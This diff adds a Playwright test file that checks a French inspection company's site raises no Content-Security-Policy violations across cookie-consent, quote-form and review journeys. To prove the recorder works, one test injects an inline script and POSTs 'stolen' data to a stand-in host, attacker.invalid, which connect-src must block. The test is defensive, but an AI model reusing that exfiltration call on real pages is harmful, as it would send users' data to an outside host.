@@ -1,0 +1,237 @@
+// The Content-Security-Policy in use (security-privacy.md requirement 18: "no CSP violation in any
+// journey"). Three journeys — accept the cookies, send a quote from the home page, leave a review —
+// run under the real per-page policies and must raise no violation and no console error. Violations
+// are kept by the test itself, so one raised on a page the journey then leaves (reload, redirect,
+// link) still counts; a first test proves the recorder catches what the policy blocks.
+import type { BrowserContext, Locator, Page } from '@playwright/test'
+import { expect, test, waitForHydration } from './fixtures'
+
+const STACK = `http://127.0.0.1:${process.env.LOCAL_STACK_PORT ?? 54321}`
+
+type Violation = { directive: string; blocked: string; sample: string; page: string }
+type WindowWithRecorder = Window & { __cspViolations: Violation[]; __reportCspViolation?: (violation: Violation) => Promise<void> }
+
+/**
+ * A document listener installed before any page script (addInitScript) pushes every
+ * securitypolicyviolation to window.__cspViolations and reports it to the test through a binding;
+ * Chromium also logs each refusal to the console, mentioning "Content Security Policy".
+ */
+async function recordCsp(page: Page) {
+  const violations: Violation[] = []
+  const messages: string[] = []
+  await page.exposeBinding('__reportCspViolation', (_source, violation: Violation) => {
+    violations.push(violation)
+  })
+  await page.addInitScript(() => {
+    const store: Violation[] = []
+    Object.defineProperty(window, '__cspViolations', { value: store })
+    document.addEventListener('securitypolicyviolation', (event) => {
+      const violation = { directive: event.effectiveDirective, blocked: event.blockedURI, sample: event.sample, page: location.pathname }
+      store.push(violation)
+      void (window as unknown as WindowWithRecorder).__reportCspViolation?.(violation)
+    })
+  })
+  page.on('console', (message) => {
+    if (/content.security.policy/i.test(message.text())) messages.push(message.text())
+  })
+  return {
+    /** Every violation since the journey began, whatever document raised it. */
+    violations,
+    messages,
+    /** The current document's own array (emptied by a full navigation). */
+    inPage: () => page.evaluate(() => (window as unknown as WindowWithRecorder).__cspViolations),
+  }
+}
+
+/** Lets pending violation events and their reports arrive before the recorder is read. */
+async function settle(page: Page) {
+  await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 100)))
+}
+
+/** react-aria checkboxes hide the input under their drawn box: toggle with the keyboard, as a person would. */
+async function check(checkbox: Locator) {
+  if (await checkbox.isChecked()) return
+  await checkbox.focus()
+  await checkbox.press('Space')
+  await expect(checkbox).toBeChecked()
+}
+
+/** The form's JS loads at the first interaction with it (lazy-island.ts): point at it, as a visitor would. */
+async function liveForm(page: Page, kind: 'quick' | 'review') {
+  const island = page.locator(`[data-form-island="${kind}"]`)
+  await island.hover()
+  await expect(island).toHaveAttribute('data-hydrated', 'true')
+  return island.locator('form')
+}
+
+test.describe('Content-Security-Policy in use', () => {
+  test('the recorder works: an injected inline script and a fetch to another origin are blocked, recorded, and kept across a navigation', async ({
+    page,
+  }) => {
+    const csp = await recordCsp(page)
+    await page.goto('/')
+    await waitForHydration(page)
+
+    await page.evaluate(() => {
+      const script = document.createElement('script')
+      script.textContent = 'window.__x = 1'
+      document.body.append(script)
+    })
+    await expect.poll(() => csp.violations.length).toBe(1)
+    expect(csp.violations[0]).toMatchObject({ directive: 'script-src-elem', blocked: 'inline', page: '/' })
+    expect(await page.evaluate(() => (window as unknown as { __x?: number }).__x)).toBeUndefined()
+    expect(await csp.inPage()).toEqual(csp.violations)
+    await expect.poll(() => csp.messages.length).toBeGreaterThan(0)
+
+    // connect-src is enforced, not only written: a request to an origin it does not list never leaves.
+    const fetched = await page.evaluate(() =>
+      fetch('https://attacker.invalid/collect', { method: 'POST', body: 'stolen' }).then(
+        () => 'sent',
+        () => 'refused',
+      ),
+    )
+    expect(fetched).toBe('refused')
+    await expect.poll(() => csp.violations.length).toBe(2)
+    expect(csp.violations[1]).toMatchObject({ directive: 'connect-src', page: '/' })
+    expect(csp.violations[1]!.blocked).toMatch(/^https:\/\/attacker\.invalid/)
+
+    // A new document starts a new in-page array; the test's record keeps what the last one raised.
+    await page.goto('/contact')
+    await waitForHydration(page)
+    expect(await csp.inPage()).toEqual([])
+    expect(csp.violations).toHaveLength(2)
+  })
+
+  test('accept the cookies: the tag loads, measures through every Google host the policy allows, across a link and a reload — no violation, no console error', async ({
+    page,
+    context,
+    consoleErrors,
+  }) => {
+    const csp = await recordCsp(page)
+    const { tagRequests, measurementHosts } = await stubGoogle(context)
+    await page.goto('/')
+    await waitForHydration(page)
+    expect(tagRequests).toEqual([]) // nothing before consent
+
+    await page.getByRole('region', { name: 'Gestion des cookies' }).getByRole('button', { name: 'Accepter' }).click()
+    await expect.poll(() => tagRequests.length).toBe(1)
+    await expect.poll(() => [...measurementHosts].sort()).toEqual([...measurementTargets.map((url) => new URL(url).hostname)].sort())
+
+    // A client-side navigation to the reviews (which read the reviews API), then a reload: the
+    // stored consent loads the tag again on the new document.
+    await page.getByRole('banner').getByRole('link', { name: 'Avis Clients', exact: true }).click()
+    await expect(page).toHaveURL(/\/avis-clients$/)
+    await expect(page.locator('[data-reviews-list]')).toHaveAttribute('data-reviews-list', 'loaded')
+    measurementHosts.clear()
+    await page.reload()
+    await waitForHydration(page)
+    await expect.poll(() => tagRequests.length).toBe(2)
+    await expect.poll(() => measurementHosts.size).toBe(measurementTargets.length)
+    await expect(page.locator('[data-reviews-list]')).toHaveAttribute('data-reviews-list', 'loaded')
+
+    await settle(page)
+    expect(csp.violations).toEqual([])
+    expect(csp.messages).toEqual([])
+    expect(consoleErrors).toEqual([])
+  })
+
+  test('send a quote from the home page: every field, the select and the calendar, sent through the mail API — no violation, no console error', async ({
+    page,
+    request,
+    consoleErrors,
+  }) => {
+    const csp = await recordCsp(page)
+    await page.goto('/')
+    await waitForHydration(page)
+    const form = await liveForm(page, 'quick')
+    const marker = `Devis CSP ${Date.now()}`
+    await form.getByRole('textbox', { name: 'Nom complet', exact: true }).fill(marker)
+    await form.getByRole('textbox', { name: 'Adresse email', exact: true }).fill('jeanne.martin@example.fr')
+    await form.getByRole('textbox', { name: 'Téléphone', exact: true }).fill('06 12 34 56 78')
+    await form.getByRole('textbox', { name: 'Ville ou code postal', exact: true }).fill('34000 Montpellier')
+    await form.getByRole('button', { name: /Type de projet/ }).click()
+    await page.getByRole('option', { name: 'Expertise fissures', exact: true }).click()
+    await form.getByRole('group', { name: /Date souhaitée/ }).getByRole('spinbutton').first().click()
+    await page.keyboard.type('17032031')
+    await form.getByRole('textbox', { name: 'Votre message', exact: true }).fill('Des fissures en escalier sur la façade.')
+    await check(form.getByRole('checkbox', { name: /conditions d’utilisation/ }))
+    const sent = page.waitForResponse((response) => response.request().method() === 'POST' && response.url().startsWith(`${STACK}/api/v1.0/email/send`))
+    await form.getByRole('button', { name: 'Envoyer ma demande' }).click()
+    expect((await sent).status()).toBe(200)
+    await expect(page.getByRole('region', { name: 'Notifications' }).getByText('Demande envoyée', { exact: true })).toBeVisible()
+
+    const outbox = (await (await request.get(`${STACK}/__outbox`)).json()) as { messages: { template_params: Record<string, string> }[] }
+    const mine = outbox.messages.filter((message) => message.template_params.name === marker)
+    expect(mine).toHaveLength(1)
+    expect(mine[0]!.template_params).toMatchObject({ form_source: 'Demande de devis rapide', preferred_date: 'lundi 17 mars 2031' })
+
+    await settle(page)
+    expect(csp.violations).toEqual([])
+    expect(csp.messages).toEqual([])
+    expect(consoleErrors).toEqual([])
+  })
+
+  test('leave a review: stored through the reviews API, success, redirected to the loaded list — no violation, no console error', async ({
+    page,
+    consoleErrors,
+  }) => {
+    const csp = await recordCsp(page)
+    await page.goto('/avis-clients/nouveau')
+    await waitForHydration(page)
+    const form = await liveForm(page, 'review')
+    await form.getByRole('textbox', { name: 'Votre nom' }).fill('Jeanne Martin')
+    await form.getByRole('textbox', { name: 'Adresse email' }).fill('jeanne.martin@example.fr')
+    await form.getByRole('button', { name: /Type de projet/ }).click()
+    await page.getByRole('option', { name: 'Expertise fissures', exact: true }).click()
+    await form.getByRole('button', { name: /Votre département/ }).click()
+    await page.getByRole('option', { name: '34 - Hérault', exact: true }).click()
+    await form.getByRole('radio', { name: '4 étoiles', exact: true }).locator('xpath=ancestor::label[1]').click()
+    await form.getByRole('textbox', { name: 'Votre avis' }).fill(`Avis CSP ${Date.now()} : rapport clair, expert disponible.`)
+    await check(form.getByRole('checkbox', { name: /conditions d’utilisation/ }))
+    const inserted = page.waitForResponse((response) => response.request().method() === 'POST' && response.url().startsWith(`${STACK}/rest/v1/avis`))
+    await form.getByRole('button', { name: /Envoyer mon avis/ }).click()
+    expect((await inserted).status()).toBe(201)
+    await expect(page.getByRole('region', { name: 'Notifications' }).getByText('Avis envoyé avec succès', { exact: true })).toBeVisible()
+    await expect(page).toHaveURL(/\/avis-clients$/, { timeout: 10_000 })
+    await expect(page.locator('[data-reviews-list]')).toHaveAttribute('data-reviews-list', 'loaded')
+
+    await settle(page)
+    expect(csp.violations).toEqual([])
+    expect(csp.messages).toEqual([])
+    expect(consoleErrors).toEqual([])
+  })
+})
+
+// ---- Google, answered locally -------------------------------------------------------------------
+
+/**
+ * One request per host pattern the policy's connect-src allows for measurement (Google's CSP guide
+ * for GA4 and Ads): the stub tag sends them as gtag does (fetch, no-cors), so a host the policy
+ * stopped allowing would be refused and reported.
+ */
+const measurementTargets = [
+  'https://region1.google-analytics.com/g/collect?v=2&en=page_view',
+  'https://region1.analytics.google.com/g/collect?v=2&en=page_view',
+  'https://www.googletagmanager.com/a?id=stub',
+  'https://googleads.g.doubleclick.net/pagead/viewthroughconversion/000000000/',
+  'https://www.google.com/ccm/collect?en=page_view',
+]
+
+const stubTagBody = `(function () {
+  for (const url of ${JSON.stringify(measurementTargets)}) fetch(url, { method: 'POST', mode: 'no-cors', keepalive: true }).catch(function () {})
+})()`
+
+async function stubGoogle(context: BrowserContext) {
+  const tagRequests: string[] = []
+  const measurementHosts = new Set<string>()
+  await context.route(/^https:\/\/([a-z0-9-]+\.)*(google-analytics\.com|analytics\.google\.com|googletagmanager\.com|doubleclick\.net|google\.com)\//, (route) => {
+    const url = new URL(route.request().url())
+    if (url.hostname === 'www.googletagmanager.com' && url.pathname === '/gtag/js') {
+      tagRequests.push(url.href)
+      return route.fulfill({ contentType: 'text/javascript', body: stubTagBody })
+    }
+    measurementHosts.add(url.hostname)
+    return route.fulfill({ status: 204 })
+  })
+  return { tagRequests, measurementHosts }
+}
